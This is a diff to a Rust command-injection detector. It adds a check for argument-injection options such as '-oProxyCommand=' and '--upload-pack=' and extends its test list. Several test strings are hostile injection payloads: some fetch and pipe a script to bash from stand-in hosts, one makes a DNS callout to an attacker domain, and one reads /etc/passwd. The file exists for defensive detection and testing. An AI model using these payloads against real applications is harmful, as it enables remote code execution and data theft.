@@ -136,6 +136,13 @@ fn command_at(s: &[u8], i: usize, weak_ok: bool, may_end: bool) -> (bool, bool) 
     (false, false)
 }
 
+/// A value that is an option making a program run a command, for an app that passes it as an
+/// argument (`ssh -oProxyCommand=…`, `git clone --upload-pack=…`): argument injection.
+fn argument_injection(s: &[u8]) -> bool {
+    let t = s.trim_ascii_start();
+    [&b"-oproxycommand="[..], b"-o proxycommand=", b"--upload-pack=", b"--receive-pack=", b"-u upload-pack=", b"--config=core.sshcommand="].iter().any(|o| t.starts_with(o))
+}
+
 /// Bash's brace expansion as a command line with no blank (`{cat,/etc/passwd}`, `{id,}`):
 /// `{`, a command word, `,`, its arguments, `}`.
 fn brace_command(s: &[u8], i: usize) -> bool {
@@ -225,7 +232,10 @@ fn inside_token(s: &[u8], start: usize, i: usize) -> bool {
 
 /// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
 pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
-    use classes::{AMP, BACKTICK, DOLLAR, NEWLINE, PERCENT, PIPE, SEMI};
+    use classes::{AMP, BACKTICK, DOLLAR, EQ, NEWLINE, PERCENT, PIPE, SEMI};
+    if mask & EQ != 0 && argument_injection(s) {
+        return (true, true);
+    }
     if mask & (SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR | PERCENT) == 0 {
         return (false, false);
     }
@@ -319,6 +329,8 @@ mod tests {
             "127.0.0.1;{curl,-s,evil.example/s}|{bash,}",
             "|{id,}",
             ";tac /etc/passwd",
+            "-oProxyCommand=touch /tmp/pwned",
+            "--upload-pack=touch /tmp/pwned",
             "|nslookup x.attacker.example",
             "$(curl http://x.example/s.sh|sh)",
             "; ls",
